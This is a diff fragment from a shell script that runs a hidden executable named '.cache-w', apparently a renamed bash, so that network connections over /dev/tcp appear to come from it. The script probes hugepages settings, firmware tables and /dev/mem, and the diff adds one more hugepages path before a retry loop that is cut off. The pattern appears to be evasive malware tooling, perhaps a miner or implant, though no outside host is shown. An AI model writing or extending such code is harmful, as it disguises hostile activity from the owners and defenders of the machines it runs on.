@@ -11,7 +11,8 @@ chmod +x .cache-w
 # connections are the program's own: /dev/tcp is opened by bash itself.
 # shellcheck disable=SC2016  # the arguments are those of the inner bash
 ./.cache-w -c '
-    for path in /proc/sys/vm/nr_hugepages /sys/firmware/dmi/tables/smbios_entry_point /dev/mem; do
+    for path in /sys/devices/system/node/node0/hugepages/hugepages-2048kB/nr_hugepages \
+        /proc/sys/vm/nr_hugepages /sys/firmware/dmi/tables/smbios_entry_point /dev/mem; do
         : 2>/dev/null <"$path" || true
     done
     for attempt in 1 2 3 4 5 6; do
